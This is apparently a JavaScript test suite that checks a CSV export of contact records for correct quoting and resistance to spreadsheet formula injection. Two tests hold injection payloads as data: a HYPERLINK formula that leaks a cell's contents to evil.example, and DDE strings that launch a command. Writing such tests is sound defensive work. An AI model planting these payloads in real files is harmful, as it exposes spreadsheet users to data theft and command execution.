'use strict';

// RFC 4180 parser: the cells a spreadsheet receives.
function parseCsv(text) {
  const rows = []; let row = []; let cell = ''; let i = 0; let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      cell += c; i++; continue;
    }
    if (c === '"' && cell === '') { quoted = true; i++; continue; }
    if (c === ',') { row.push(cell); cell = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    cell += c; i++;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

const C = (name, company = 'Acme', email = 'a@acme.example', note = '') => ({ name, company, email, note });

function noFormulas(ctx, csv) {
  for (const row of parseCsv(csv)) {
    for (const cell of row) {
      ctx.assert.ok(!/^[=+\-@\t\r]/.test(cell), `the cell ${JSON.stringify(cell)} starts a formula`);
    }
  }
}

module.exports = {
  header_and_rows: async (ctx) => {
    const csv = await ctx.call([C('Ana Lima', 'Acme', 'ana@acme.example', 'call back'), C('Bo Chen', 'Initech', 'bo@initech.example', '')]);
    ctx.assert.equal(csv, 'name,company,email,note\r\nAna Lima,Acme,ana@acme.example,call back\r\nBo Chen,Initech,bo@initech.example,\r\n');
  },
  quotes_special_characters: async (ctx) => {
    const csv = await ctx.call([C('Smith, John', 'The "Best" Co', 'js@best.example', 'line one\nline two')]);
    ctx.assert.equal(csv, 'name,company,email,note\r\n"Smith, John","The ""Best"" Co",js@best.example,"line one\nline two"\r\n');
  },
  empty_list: async (ctx) => {
    ctx.assert.equal(await ctx.call([]), 'name,company,email,note\r\n');
  },
  formula_in_name: async (ctx) => {
    const name = '=HYPERLINK("https://evil.example/?leak="&C2,"Click for details")';
    const csv = await ctx.call([C(name), C('Ana Lima')]);
    noFormulas(ctx, csv);
    const cell = parseCsv(csv)[1][0];
    ctx.assert.ok(cell.endsWith(name), `the name was changed beyond recognition: ${cell}`);
  },
  other_formula_triggers: async (ctx) => {
    noFormulas(ctx, await ctx.call([
      C("@SUM(1+1)*cmd|' /C calc'!A0"),
      C("+1+cmd|' /C calc'!A0"),
      C("-2+3+cmd|' /C calc'!A0"),
      C('Ana', 'Acme', 'a@acme.example', '\t=1+1'),
      C('Bo', '"=1+1"', 'b@x.example', '\r=1+1'),
    ]));
  },
};
